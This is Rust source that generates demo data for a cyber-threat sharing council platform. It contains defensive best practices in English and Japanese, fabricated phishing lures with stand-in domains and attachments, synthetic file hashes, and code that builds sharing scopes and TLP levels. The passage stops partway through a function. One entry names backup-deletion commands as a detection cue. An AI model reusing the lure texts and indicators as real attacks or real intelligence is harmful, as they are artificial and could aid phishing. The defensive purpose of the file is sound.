const LESSONS: &str = "After handling an incident of this kind, the providing organisation shares what helped most, so that others can prepare before they are hit.";

/// Who provides a best practice.
#[derive(Debug, Clone, Copy)]
enum By {
    Coordinator,
    Vendor,
    Operator,
    General,
}

/// A best practice, confirmed and shared with every class.
struct Practice {
    by: By,
    title: &'static str,
    context: &'static str,
    practice: &'static str,
    detail: &'static str,
    techniques: &'static [&'static str],
}

const PRACTICES: &[Practice] = &[
    Practice {
        by: By::Coordinator,
        title: "Best practice: offline backups tested quarterly",
        context: "Ransomware groups look for backups first and encrypt or delete them before anything else. A backup that has never been restored is a hope, not a plan.",
        practice: "Keep at least one copy of critical data offline or immutable (three copies, two media, one off-site, one offline). Restore a full system from it every quarter and time the restore. Keep backup credentials out of the Windows domain.",
        detail: "Use separate credentials and MFA for the backup console, enable object lock or WORM on storage targets, and alert on deletion of restore points and on vssadmin delete shadows.",
        techniques: &["T1486", "T1490"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: disable SMBv1 everywhere and block TCP/445 between client segments",
        context: "Worms such as WannaCry spread over SMB without any user action. Client PCs rarely need to talk SMB to each other.",
        practice: "Disable SMBv1 on every Windows host by group policy; block TCP/139 and TCP/445 between client VLANs with host firewalls and network ACLs; allow SMB only to file servers and domain controllers.",
        detail: "Audit SMBv1 use first with Set-SmbServerConfiguration -AuditSmb1Access $true and watch event 3000 in Microsoft-Windows-SMBServer/Audit.",
        techniques: &["T1210", "T1021.002"],
    },
    Practice {
        by: By::Operator,
        title: "ベストプラクティス: VPN装置の管理画面をインターネットに公開しない",
        context: "VPN装置やファイアウォールの管理画面が公開されていると、認証回避の脆弱性が公表された直後に侵害されます。",
        practice: "管理インタフェースは管理用ネットワークからのみ接続可能とし、ファームウェアの更新状況を月次で確認します。ベンダの注意喚起を当日中に確認する担当者を決めておきます。",
        detail: "",
        techniques: &["T1190", "T1133"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: phishing-resistant MFA (FIDO2) for every remote access path",
        context: "Real-time phishing relays defeat SMS and app one-time codes. Only authenticators bound to the site's origin stop them.",
        practice: "Require FIDO2 security keys or platform passkeys for VPN, webmail, cloud admin consoles and remote support tools. Start with administrators and staff with payment authority.",
        detail: "",
        techniques: &["T1111", "T1078"],
    },
    Practice {
        by: By::Coordinator,
        title: "Best practice: an out-of-band contact list for the weekend",
        context: "The WannaCry outbreak began on a Friday; organisations that knew on Saturday could not reach the people who had to act before Monday.",
        practice: "Keep a printed and phone-based list of who decides what on a weekend: CSIRT lead, executive on duty, network operator, external responder, council contact. Test it twice a year with a call at an unusual hour.",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::Coordinator,
        title: "ベストプラクティス: 休日の初動連絡体制 (土曜日に判明した事案を月曜朝までに)",
        context: "土曜日に判明した脅威情報を月曜朝の始業前に全社員へ届けられるかどうかが、被害の大きさを左右します。",
        practice: "休日の連絡網 (電話・SMS) を整備し、「PCを起動しない」などの指示を月曜朝の始業前に全社員へ伝える手順と文面をあらかじめ用意しておきます。協議会からの早期警戒情報の受信者は個人ではなく複数名とします。",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: keep an asset inventory with CPE names so alerts find you",
        context: "Alerts about exploited vulnerabilities help only if you know whether you run the product and version.",
        practice: "Register internet-facing products, their versions and CPE names in the council's asset registry and update it after every change. Include appliances managed by vendors.",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::Operator,
        title: "Best practice: separate OT and IT with a DMZ and one-way transfer of historian data",
        context: "Ransomware in the office network stopped production at several plants because control systems shared the network or the domain.",
        practice: "Place a DMZ between IT and OT; replicate historian data outwards only; use a separate directory (or none) for OT; allow remote maintenance only through a jump host with MFA and session recording.",
        detail: "",
        techniques: &["T0886", "T1021.001"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: keep VPN, DNS and proxy logs for at least 12 months",
        context: "Intrusions through VPN appliances are typically discovered months after the initial access. Without logs, nobody can tell what was taken.",
        practice: "Forward VPN, DNS, proxy, firewall and domain controller logs to a central store out of an attacker's reach and keep them for at least 12 months; do not rely on logs kept on the appliance itself.",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::General,
        title: "ベストプラクティス: 標的型メール訓練は年2回、報告率を指標に",
        context: "開封率だけを指標にした訓練は、開封してしまった社員が報告をためらう原因になります。",
        practice: "訓練は年2回以上実施し、開封率ではなく報告ボタンによる報告率と報告までの時間を指標にします。開封した社員を責めず、早く報告した社員を評価します。",
        detail: "",
        techniques: &["T1566.001"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: tiered administration — no domain admin logons on workstations",
        context: "Attackers harvest domain admin credentials from the memory of workstations where administrators logged in.",
        practice: "Separate admin accounts by tier (domain controllers, servers, workstations) and deny logons of tier-0 accounts on lower tiers by group policy. Use privileged access workstations for tier 0.",
        detail: "",
        techniques: &["T1003.001", "T1078.002"],
    },
    Practice {
        by: By::Operator,
        title: "Best practice: unique local administrator passwords with LAPS",
        context: "One shared local administrator password lets an attacker move to every PC once it has one.",
        practice: "Deploy Windows LAPS so that every machine has a unique, rotated local administrator password stored in the directory, and restrict who may read it.",
        detail: "",
        techniques: &["T1078.003", "T1021.002"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: PowerShell script block logging and Constrained Language Mode",
        context: "Most intrusions use PowerShell at some point; without logging it leaves no trace.",
        practice: "Enable script block and module logging by group policy, forward event 4104 to your log store, and enforce Constrained Language Mode through application control on user workstations.",
        detail: "",
        techniques: &["T1059.001"],
    },
    Practice {
        by: By::Coordinator,
        title: "Best practice: block macros in files from the internet",
        context: "Macros in mailed documents were the main entry point of Emotet and many other loaders.",
        practice: "Enable the policy \"Block macros from running in Office files from the Internet\" for Word, Excel and PowerPoint, and allow signed macros from trusted publishers only.",
        detail: "",
        techniques: &["T1204.002", "T1566.001"],
    },
    Practice {
        by: By::Coordinator,
        title: "Best practice: patch internet-facing devices within 72 hours of a known-exploited listing",
        context: "Exploitation of VPN and firewall flaws often starts within days of disclosure, sometimes before.",
        practice: "Follow the council's catalogue of known-exploited vulnerabilities; patch or isolate internet-facing devices within 72 hours of a listing and everything else within 14 days. Pre-approve emergency change windows.",
        detail: "",
        techniques: &["T1190"],
    },
    Practice {
        by: By::Operator,
        title: "ベストプラクティス: 委託先・保守業者のリモート接続を棚卸しする",
        context: "医療機関や工場の侵害の多くは、保守業者が設置したVPN装置やリモート接続ツールから始まっています。",
        practice: "保守業者ごとに接続経路・装置・アカウント・責任者を一覧にし、半年ごとに見直します。共用アカウントは廃止し、接続は必要な時間だけ許可します。",
        detail: "",
        techniques: &["T1133", "T1199"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: tabletop exercises before you need them",
        context: "Decisions during a ransomware attack — whom to tell, when to shut down, how to restore — are hard to make for the first time at 3 a.m.",
        practice: "Run a two-hour tabletop exercise every half year with executives, legal, public relations and IT, using a realistic scenario from the council's shared items. Record the decisions and update the plan.",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::Operator,
        title: "Best practice: a DDoS runbook agreed with your ISP and CDN",
        context: "Hacktivist DDoS waves are often announced hours ahead; those hours are wasted without an agreed plan.",
        practice: "Agree thresholds, contacts and mitigation steps with your ISP and CDN in advance and test the contact path; keep origin addresses secret and accept traffic only from the CDN.",
        detail: "",
        techniques: &["T1498", "T1499"],
    },
    Practice {
        by: By::General,
        title: "Best practice: DMARC p=reject for every domain you own, including parked ones",
        context: "Attackers send fake invoices in your name to your customers; DMARC lets receivers reject them.",
        practice: "Publish SPF, DKIM and DMARC for all domains and move to p=reject after monitoring the reports; publish \"v=spf1 -all\" and p=reject for domains that send no mail.",
        detail: "",
        techniques: &["T1566"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: EDR on servers too, including the backup server",
        context: "Servers without EDR are where attackers stage their tools and start the encryptor.",
        practice: "Cover every Windows and Linux server with EDR, including backup, hypervisor management and file servers, and alert on attempts to disable it.",
        detail: "",
        techniques: &["T1562.001"],
    },
    Practice {
        by: By::Operator,
        title: "Best practice: immutable backups for medical records and imaging",
        context: "Hospitals that lost their electronic medical records to ransomware took weeks to resume normal care.",
        practice: "Keep an immutable or offline copy of the medical records database and PACS, keep a read-only reference copy that clinicians can consult during an outage, and rehearse the switch to paper.",
        detail: "",
        techniques: &["T1486"],
    },
    Practice {
        by: By::General,
        title: "ベストプラクティス: 電子カルテのオフラインバックアップと紙運用の訓練",
        context: "ランサムウェア被害を受けた病院では、電子カルテの復旧に数週間を要した例があります。",
        practice: "電子カルテのバックアップをネットワークから切り離して保管し、年1回は紙運用への切替訓練を行います。",
        detail: "",
        techniques: &["T1486", "T1490"],
    },
    Practice {
        by: By::Coordinator,
        title: "Best practice: after a VPN appliance compromise, rotate everything it touched",
        context: "An attacker on a VPN appliance captures the passwords, session cookies and keys of every user who connects.",
        practice: "Reset the passwords of all users who connected during the exposure window, revoke sessions, reissue certificates, and rotate the LDAP bind and RADIUS secrets configured on the device.",
        detail: "",
        techniques: &["T1556", "T1078"],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: watch domain controllers for new services and scheduled tasks",
        context: "Ransomware operators start the encryptor from domain controllers with group policy or scheduled tasks.",
        practice: "Alert on new services (event 7045), scheduled tasks (event 4698) and group policy changes (event 5136) on domain controllers, and review them daily.",
        detail: "",
        techniques: &["T1053.005", "T1484.001", "T1543.003"],
    },
    Practice {
        by: By::Operator,
        title: "Best practice: block outbound SMB and RDP at the internet edge",
        context: "Outbound SMB leaks NTLM hashes, and outbound RDP is rarely legitimate.",
        practice: "Deny TCP/445, TCP/139 and TCP/3389 from internal networks to the internet at the perimeter firewall, and treat denied attempts as signs of infection.",
        detail: "",
        techniques: &["T1021.001", "T1187"],
    },
    Practice {
        by: By::Coordinator,
        title: "Best practice: share first, confirm later — reporting unconfirmed observations to the task force",
        context: "In the WannaCry case the first company that knew did not share, because it was unsure of its own analysis.",
        practice: "Share early as an unconfirmed analysis to the task force; recipients never see your name. Update the item to probable or confirmed as you learn more, or retract it.",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::Coordinator,
        title: "ベストプラクティス: 「何かおかしい」段階での相談",
        context: "確証がないまま時間が過ぎ、被害が拡大する例が多く見られます。",
        practice: "不審な事象は確証がなくても協議会の相談機能で第一類構成員に相談してください。相談者の名前は伝わりません。",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::General,
        title: "Best practice: a golden image to rebuild PCs within a day",
        context: "Cleaning infected PCs one by one takes weeks and misses persistence.",
        practice: "Maintain a current golden image and automated provisioning so that every PC can be re-imaged within a day, and keep user data on servers rather than on PCs.",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::Vendor,
        title: "Best practice: checkout pages with subresource integrity and CSP reports",
        context: "Card skimmers are injected into checkout pages and go unnoticed for weeks.",
        practice: "Serve checkout pages with a strict Content Security Policy and violation reports, use subresource integrity for third-party scripts, and compare page scripts daily with a known-good list.",
        detail: "",
        techniques: &["T1059.007"],
    },
    Practice {
        by: By::Operator,
        title: "Best practice: put building management and medical devices in their own VLANs",
        context: "Devices that cannot run security software are easy footholds and easy victims.",
        practice: "Segment building management, medical and IoT devices into dedicated VLANs with allow-list firewall rules, and deny them internet access except to their vendors' update servers.",
        detail: "",
        techniques: &[],
    },
    Practice {
        by: By::Coordinator,
        title: "Best practice: retire end-of-life VPN appliances — don't just patch them",
        context: "End-of-life appliances receive no fixes and are among the most exploited devices in recent intrusions.",
        practice: "List the appliances past end of support and replace them on a dated plan; until then, restrict access by source address and monitor them closely.",
        detail: "",
        techniques: &["T1190", "T1133"],
    },
    Practice {
        by: By::General,
        title: "ベストプラクティス: 取引先からの振込先変更依頼は電話で折り返し確認",
        context: "取引先を装ったメールで振込先の変更を依頼するビジネスメール詐欺の被害が続いています。",
        practice: "振込先の変更依頼はメールだけで受け付けず、既知の電話番号に折り返して確認します。高額の送金は二人で承認します。",
        detail: "",
        techniques: &["T1656"],
    },
];

/// A suspicious mail reported by a general member.
struct Phish {
    subject: &'static str,
    sender: &'static str,
    url: Option<&'static str>,
    attachment: Option<&'static str>,
    ip: &'static str,
}

const PHISH: &[Phish] = &[
    Phish {
        subject: "【至急】請求書の送付について",
        sender: "keiri@invoice-share-kappa.example.com",
        url: Some("https://invoice-share-kappa.example.com/seikyu/INV-0318.zip"),
        attachment: Some("seikyu_0318.zip"),
        ip: "203.0.113.10",
    },
    Phish {
        subject: "Mailbox password expires today",
        sender: "it-helpdesk@login-portal-sorahashi.example.com",
        url: Some("https://login-portal-sorahashi.example.com/owa/auth.php"),
        attachment: None,
        ip: "198.51.100.17",
    },
    Phish {
        subject: "【重要】お客様のアカウントが一時停止されました",
        sender: "no-reply@account-notice-yurei.example.net",
        url: Some("https://account-notice-yurei.example.net/verify"),
        attachment: None,
        ip: "192.0.2.201",
    },
    Phish {
        subject: "Re: 見積書の件",
        sender: "sales@update-kuronagi-cdn.example.net",
        url: Some("https://update-kuronagi-cdn.example.net/mitsumori/estimate.zip"),
        attachment: Some("estimate.zip"),
        ip: "203.0.113.11",
    },
    Phish {
        subject: "【再送】発注書 (PO-2024-0318)",
        sender: "order@docs-seikyu-tengu.example.org",
        url: None,
        attachment: Some("PO-2024-0318.xlsm"),
        ip: "198.51.100.88",
    },
    Phish {
        subject: "Invoice INV-20931 overdue — action required",
        sender: "accounts@invoice-overdue-baku.example.com",
        url: Some("https://invoice-overdue-baku.example.com/pay/INV-20931"),
        attachment: None,
        ip: "192.0.2.202",
    },
    Phish {
        subject: "【人事部】賞与支給明細のご確認",
        sender: "jinji@hr-notice-yurei.example.org",
        url: Some("https://hr-notice-yurei.example.org/meisai/login"),
        attachment: None,
        ip: "203.0.113.203",
    },
    Phish {
        subject: "Your parcel is on hold — confirm your delivery address",
        sender: "tracking@parcel-track-baku.example.net",
        url: Some("https://parcel-track-baku.example.net/track?id=JP4471"),
        attachment: None,
        ip: "198.51.100.203",
    },
    Phish {
        subject: "【ご案内】年末調整書類の提出について",
        sender: "soumu@hr-notice-yurei.example.org",
        url: None,
        attachment: Some("nenmatsu.docm"),
        ip: "203.0.113.203",
    },
    Phish {
        subject: "Shared document: Q3 budget revision.xlsx",
        sender: "share@docs-cloud-mokumokuren.example.com",
        url: Some("https://docs-cloud-mokumokuren.example.com/s/q3-budget"),
        attachment: None,
        ip: "192.0.2.203",
    },
    Phish {
        subject: "【緊急】不正ログインの可能性があります — 本人確認のお願い",
        sender: "security@netbank-login-nurikabe.example.com",
        url: Some("https://netbank-login-nurikabe.example.com/ib/login.php"),
        attachment: None,
        ip: "203.0.113.140",
    },
    Phish {
        subject: "RE: Payment confirmation / 支払確認",
        sender: "payment@invoice-share-kappa.example.com",
        url: Some("https://update-kuronagi-cdn.example.net/pay/confirm.zip"),
        attachment: Some("confirm.zip"),
        ip: "203.0.113.10",
    },
    Phish {
        subject: "【講演依頼】国際情勢に関するご講演のお願い",
        sender: "lecture-office@seminar-request-kitsunebi.example.org",
        url: Some("https://seminar-request-kitsunebi.example.org/files/request.zip"),
        attachment: Some("request.zip"),
        ip: "192.0.2.100",
    },
    Phish {
        subject: "Updated bank details for future payments",
        sender: "finance@vendor-remit-kasha.example.net",
        url: None,
        attachment: None,
        ip: "198.51.100.204",
    },
    Phish {
        subject: "【セキュリティ通知】パスワードの有効期限について",
        sender: "admin@login-portal-sorahashi.example.com",
        url: Some("https://login-portal-sorahashi.example.com/owa/auth.php"),
        attachment: None,
        ip: "198.51.100.17",
    },
    Phish {
        subject: "会議資料の共有 (議事次第)",
        sender: "office@docs-cloud-mokumokuren.example.com",
        url: None,
        attachment: Some("gijishidai.lnk"),
        ip: "192.0.2.203",
    },
];

const PHISH_CONTEXT: &[&str] = &[
    "A member received the mail below at several staff addresses. Nobody is known to have entered credentials or opened the attachment; it is shared so that others can block it.",
    "社内の複数の職員宛てに以下の不審メールが届きました。現時点で開封・入力の報告はありません。",
    "An employee reported the mail with the phishing report button; similar mails may reach other members.",
    "Part of a wave of mails seen over two days; the sender addresses change but the links stay the same.",
];
const PHISH_CM: &str = "Block the sender domain and the link at the mail gateway and proxy, search mailboxes for the subject and delete the copies, and ask anyone who clicked to change their password and report it.";

/// How a sample's scope is shaped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shape {
    /// Every class.
    Everyone,
    /// The task force: class 1 and class 2.
    TaskForce,
    /// The task force of the provider's own sector.
    Sector,
    /// Two to five named members.
    Named,
    /// The task force except a peer of the provider and its sector's regulators.
    Excluding,
    /// The task force, never the regulators of the provider's sector.
    NotMyRegulators,
    /// The task force, never any regulator.
    NoRegulators,
    /// Exactly two named members (for TLP:RED).
    RedPair,
}

/// The scopes of the four incident reports of a campaign, in turn.
const INCIDENT_SHAPES: [Shape; 8] = [
    Shape::TaskForce,
    Shape::Sector,
    Shape::Named,
    Shape::NotMyRegulators,
    Shape::Excluding,
    Shape::TaskForce,
    Shape::NoRegulators,
    Shape::RedPair,
];

/// One sample item before it is stored.
struct Sample {
    /// Index of the provider in the member list.
    provider: usize,
    draft: ItemDraft,
    /// How long ago it was shared.
    age_minutes: i64,
    /// Stored as retracted (revision 2).
    retracted: bool,
}

fn raw(kind: K, value: &str) -> RawIndicator {
    RawIndicator {
        kind: kind.as_str().to_owned(),
        value: value.to_owned(),
    }
}

fn sha256_hex(label: &str) -> String {
    hex::encode(Sha256::digest(label.as_bytes()))
}

/// A SHA-256, an MD5 and a SHA-1 for a sample file: hex cut from hashes of its label,
/// so they look real but belong to no real file.
fn file_hashes(label: &str) -> [RawIndicator; 3] {
    let md5 = sha256_hex(&format!("{label}#md5"));
    let sha1 = sha256_hex(&format!("{label}#sha1"));
    [
        raw(K::Sha256, &sha256_hex(label)),
        raw(K::Md5, &md5[..32]),
        raw(K::Sha1, &sha1[..40]),
    ]
}

/// A campaign's indicators: its own, then the hashes of its files.
fn pool(c: &Campaign) -> Vec<RawIndicator> {
    let mut out: Vec<RawIndicator> = c.indicators.iter().map(|(k, v)| raw(*k, v)).collect();
    for f in c.files {
        out.extend(file_hashes(&format!("tsunagu-demo/{}/{f}", c.key)));
    }
    out
}

/// `n` indicators of `pool` (at most 20): always the first, then the others from
/// `offset` on, so items of one campaign overlap without being identical.
fn pick(pool: &[RawIndicator], n: usize, offset: usize) -> Vec<RawIndicator> {
    let Some((first, rest)) = pool.split_first() else {
        return Vec::new();
    };
    if n == 0 {
        return Vec::new();
    }
    let more = (n.min(20) - 1).min(rest.len());
    let start = offset % rest.len().max(1);
    let mut out = vec![first.clone()];
    out.extend(rest.iter().cycle().skip(start).take(more).cloned());
    out
}

fn strs(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

fn products(list: &[Prod]) -> Vec<Product> {
    list.iter()
        .map(|p| Product {
            vendor: p.vendor.to_owned(),
            product: p.product.to_owned(),
            version: p.version.to_owned(),
            cpe: p.cpe.map(str::to_owned),
        })
        .collect()
}

/// The sector as a word in an English title.
fn sector_word(s: Sector) -> &'static str {
    match s {
        Sector::InformationCommunication => "telecom",
        Sector::Finance => "banking",
        Sector::Aviation => "aviation",
        Sector::Railway => "railway",
        Sector::Electricity => "electricity",
        Sector::Gas => "gas",
        Sector::GovernmentServices => "government services",
        Sector::Medical => "healthcare",
        Sector::Water => "water utility",
        Sector::Logistics => "logistics",
        Sector::Credit => "credit card",
        Sector::Petroleum => "petroleum",
        Sector::Chemical => "chemical",
        Sector::NationalGovernment => "government",
        Sector::LocalGovernment => "local government",
        Sector::SecurityVendor => "security",
        Sector::Academia => "university",
        Sector::Other => "private-sector",
    }
}

/// Fills `{sector}` and `{sector_ja}` in a title, with "a" or "an" as the word needs,
/// and starts it with a capital letter.
fn fill(title: &str, sector: Sector) -> String {
    let word = sector_word(sector);
    let article = if word.starts_with(['a', 'e', 'i', 'o', 'u']) {
        "an"
    } else {
        "a"
    };
    let filled = title
        .replace("{sector_ja}", sector.name_ja())
        .replace(" a {sector}", &format!(" {article} {word}"))
        .replace("{sector}", word);
    let mut chars = filled.chars();
    chars.next().map_or(filled.clone(), |first| {
        first.to_uppercase().chain(chars).collect()
    })
}

fn is_japanese(s: &str) -> bool {
    !s.is_ascii() && s.chars().any(|c| ('\u{3040}'..='\u{9fff}').contains(&c))
}

/// A draft with the given essentials and everything else empty.
fn draft(
    kind: ItemKind,
    title: String,
    confidence: Confidence,
    tlp: Tlp,
    scope: Scope,
) -> ItemDraft {
    ItemDraft {
        kind,
        title,
        executive_context: String::new(),
        technical_details: String::new(),
        countermeasures: String::new(),
        victim: None,
        indicators: Vec::new(),
        techniques: Vec::new(),
        cves: Vec::new(),
        products: Vec::new(),
        confidence,
        tlp,
        scope,
        show_provider_sector: false,
        clearance: None,
    }
}

/// The demo council seen by role: indices into the member list.
struct Council<'a> {
    members: &'a [Member],
    coordinator: usize,
    /// Class 1 experts (not the coordinator or the secretariat).
    vendors: Vec<usize>,
    /// Class 2 operators.
    operators: Vec<usize>,
    /// General members that are not regulators.
    general: Vec<usize>,
}

/// `list` from position `salt` on, wrapping around.
fn rotated(list: &[usize], salt: usize) -> impl Iterator<Item = usize> + '_ {
    let start = salt % list.len().max(1);
    list[start..].iter().chain(&list[..start]).copied()
}

impl<'a> Council<'a> {
    /// `None` unless the council has a coordinator, class 1 experts, class 2 operators
    /// and general members.
    fn new(members: &'a [Member]) -> Option<Self> {
        let indices = |f: fn(&Member) -> bool| -> Vec<usize> {
            (0..members.len())
                .filter(|&i| members[i].is_active() && f(&members[i]))
                .collect()
        };
        let coordinator = *indices(|m| m.has_role(SpecialRole::Coordinator)).first()?;
        let vendors = indices(|m| {
            m.class == MemberClass::Class1
                && !m.has_role(SpecialRole::Coordinator)
                && !m.has_role(SpecialRole::Secretariat)
        });
        let operators = indices(|m| m.class == MemberClass::Class2);
        let general =
            indices(|m| m.class == MemberClass::General && !m.has_role(SpecialRole::Regulator));
        (!vendors.is_empty() && !operators.is_empty() && !general.is_empty()).then_some(Self {
            members,
            coordinator,
            vendors,
            operators,
            general,
        })
    }

    fn vendor(&self, salt: usize) -> usize {
        self.vendors[salt % self.vendors.len()]
    }

    /// An operator of `sector`, or any operator when the sector has none.
    fn operator_in(&self, sector: Sector, salt: usize) -> usize {
        let of_sector: Vec<usize> = self
            .operators
            .iter()
            .copied()
            .filter(|&i| self.members[i].sector == sector)
            .collect();
        let list = if of_sector.is_empty() {
            &self.operators
        } else {
            &of_sector
        };
        list[salt % list.len()]
    }

    /// Other operators of the provider's sector.
    fn peers(&self, provider: usize) -> Vec<usize> {
        let sector = self.members[provider].sector;
        self.operators
            .iter()
            .copied()
            .filter(|&i| i != provider && self.members[i].sector == sector)
            .collect()
    }

    /// Up to `count` distinct members other than the provider: `preferred` first, then
    /// class 1 experts from `salt` on.
    fn chosen(
        &self,
        provider: usize,
        preferred: &[usize],
        salt: usize,
        count: usize,
    ) -> BTreeSet<MemberId> {
        let mut out = BTreeSet::new();
        for i in preferred
            .iter()
            .copied()
            .chain(rotated(&self.vendors, salt))
        {
            if out.len() == count {
                break;
            }
            if i != provider {
                out.insert(self.members[i].id);
            }
        }
        out
    }

    /// The scope of `shape` for an item of `provider`; `preferred` are the members to
    /// name first.
    fn scope(&self, shape: Shape, provider: usize, preferred: &[usize], salt: usize) -> Scope {
        let tf: BTreeSet<MemberClass> = [MemberClass::Class1, MemberClass::Class2].into();
        let sector = self.members[provider].sector;
        match shape {
            Shape::Everyone => Scope {
                classes: MemberClass::ALL.into(),
                ..Scope::default()
            },
            Shape::TaskForce => Scope {
                classes: tf,
                ..Scope::default()
            },
            Shape::Sector => Scope {
                classes: tf,
                sectors: [sector].into(),
                ..Scope::default()
            },
            Shape::Named => Scope {
                members: self.chosen(provider, preferred, salt, 2 + salt % 4),
                ..Scope::default()
            },
            Shape::Excluding => {
                let mut excluded: BTreeSet<MemberId> = self
                    .peers(provider)
                    .into_iter()
                    .take(1)
                    .chain((0..self.members.len()).filter(|&i| self.members[i].regulates(sector)))
                    .map(|i| self.members[i].id)
                    .collect();
                if excluded.is_empty() {
                    excluded = self.chosen(provider, &[], salt, 1);
                }
                Scope {
                    classes: tf,
                    excluded,
                    ..Scope::default()
                }
            }
            Shape::NotMyRegulators => Scope {
                classes: tf,
                exclude_regulators_of_my_sector: true,
                ..Scope::default()
            },
            Shape::NoRegulators => Scope {
                classes: tf,
                exclude_all_regulators: true,
                ..Scope::default()
            },
            Shape::RedPair => Scope {
                members: self.chosen(provider, preferred, salt, 2),
                ..Scope::default()
            },
        }
    }

    /// The eleven items of a campaign: an early analysis, four incident reports, an
    /// indicator set, two more analyses, two coordinator countermeasures and an
    /// operator's lessons learnt, over five days from the campaign's start.
    fn campaign(&self, ci: usize, c: &Campaign, out: &mut Vec<Sample>) {
        let pool = pool(c);
        let n = ci as i64;
        let step = 53 * DAY / (CAMPAIGNS.len().max(2) as i64 - 1);
        let start = 59 * DAY - n * step - (n * 37) % 60;
        let at = |hours: i64| (start - hours * 60).max(1);
        let target = |k: usize| c.targets[k % c.targets.len()];
        let ops: Vec<usize> = (0..3)
            .map(|k| self.operator_in(target(k), ci + k))
            .collect();
        let mut push = |provider: usize, draft: ItemDraft, hours: i64, retracted: bool| {
            out.push(Sample {
                provider,
                draft,
                age_minutes: at(hours),
                retracted,
            });
        };

        // The first signal: an unconfirmed analysis to the task force.
        let vendor = self.vendor(ci * 3);
        let mut d = draft(
            ItemKind::Analysis,
            c.analyses[0].to_owned(),
            Confidence::Unconfirmed,
            Tlp::Amber,
            self.scope(Shape::TaskForce, vendor, &[], ci),
        );
        d.executive_context = format!("{} {STAGE_UNCONFIRMED}", c.background);
        d.technical_details = c.technical.to_owned();
        d.countermeasures = c.countermeasures.to_owned();
        d.indicators = pick(&pool, 4, ci);
        d.techniques = strs(&c.techniques[..c.techniques.len().min(2)]);
        d.cves = strs(c.cves);
        d.products = products(c.products);
        push(vendor, d, 0, ci % 7 == 3);

        // Incident reports from operators: three victims and a follow-up of the first.
        for k in 0..4 {
            let provider = ops[k % 3];
            let m = &self.members[provider];
            let shape = INCIDENT_SHAPES[(ci * 4 + k) % INCIDENT_SHAPES.len()];
            let tlp = match shape {
                Shape::RedPair => Tlp::Red,
                Shape::Named | Shape::Excluding | Shape::NoRegulators => Tlp::AmberStrict,
                Shape::TaskForce if k % 2 == 1 => Tlp::Green,
                _ => Tlp::Amber,
            };
            let first = fill(c.incidents[k % 3], m.sector);
            let title = match k {
                3 if is_japanese(&first) => format!("続報: {first}"),
                3 => format!("Follow-up: {first}"),
                _ => first,
            };
            let confidence = [
                Confidence::Probable,
                Confidence::Confirmed,
                Confidence::Unconfirmed,
                Confidence::Confirmed,
            ][k];
            let mut preferred = self.peers(provider);
            preferred.truncate(2);
            let mut d = draft(
                ItemKind::ThreatInformation,
                title,
                confidence,
                tlp,
                self.scope(shape, provider, &preferred, ci + k),
            );
            d.executive_context = format!(
                "{} {}",
                INCIDENT_LEADS[(ci + k) % INCIDENT_LEADS.len()],
                c.background
            );
            d.technical_details = format!(
                "{}\n\nEvidence: {}.",
                c.technical,
                EVIDENCE[(ci * 2 + k) % EVIDENCE.len()]
            );
            d.countermeasures = c.countermeasures.to_owned();
            let damaged = (ci + k) % 5 != 4;
            d.victim = Some(Victim {
                name: Some(if (ci + k) % 3 == 2 {
                    THIRD_PARTIES[(ci + k) % THIRD_PARTIES.len()].to_owned()
                } else {
                    m.name.clone()
                }),
                sector: Some(m.sector),
                damaged,
                damage_details: if damaged {
                    c.damage[k % 2]
                } else {
                    NOT_DAMAGED
                }
                .to_owned(),
            });
            d.indicators = pick(&pool, 3 + (ci * 5 + k * 3) % 10, ci * 7 + k * 3);
            d.techniques = strs(c.techniques);
            d.cves = strs(c.cves);
            d.products = products(c.products);
            d.show_provider_sector = (ci + k).is_multiple_of(2);
            push(provider, d, [6, 20, 30, 50][k], false);
        }

        // A vendor's indicator set for blocking and retro-hunting.
        let vendor = self.vendor(ci * 3 + 1);
        let mut d = draft(
            ItemKind::ThreatInformation,
            c.intel.to_owned(),
            Confidence::Confirmed,
            if ci.is_multiple_of(2) {
                Tlp::Green
            } else {
                Tlp::Amber
            },
            self.scope(Shape::TaskForce, vendor, &[], ci),
        );
        d.executive_context = format!("{} {INTEL_NOTE}", c.background);
        d.technical_details = INTEL_TECH.to_owned();
        d.countermeasures = format!("{INTEL_CM}\n\n{}", c.countermeasures);
        d.indicators = pick(&pool, 20, ci * 3);
        d.techniques = strs(c.techniques);
        d.cves = strs(c.cves);
        d.show_provider_sector = ci.is_multiple_of(3);
        push(vendor, d, 26, false);

        // A probable assessment, then a confirmed deep dive (TLP:RED to the two first
        // victims in every third campaign).
        let vendor = self.vendor(ci * 3 + 2);
        let mut d = draft(
            ItemKind::Analysis,
            fill(c.analyses[1], target(ci)),
            Confidence::Probable,
            if ci.is_multiple_of(2) {
                Tlp::Green
            } else {
                Tlp::Amber
            },
            self.scope(Shape::TaskForce, vendor, &[], ci),
        );
        d.executive_context = format!("{} {STAGE_PROBABLE}", c.background);
        d.technical_details = c.technical.to_owned();
        d.countermeasures = c.countermeasures.to_owned();
        d.indicators = pick(&pool, 6, ci * 2 + 1);
        d.techniques = strs(c.techniques);
        d.cves = strs(c.cves);
        d.products = products(c.products);
        d.show_provider_sector = true;
        push(vendor, d, 40, false);

        let vendor = self.vendor(ci * 3 + 3);
        let (shape, tlp) = match ci % 3 {
            1 => (Shape::RedPair, Tlp::Red),
            2 => (Shape::TaskForce, Tlp::AmberStrict),
            _ => (Shape::TaskForce, Tlp::Amber),
        };
        let mut d = draft(
            ItemKind::Analysis,
            c.analyses[2].to_owned(),
            Confidence::Confirmed,
            tlp,
            self.scope(shape, vendor, &ops[..2], ci),
        );
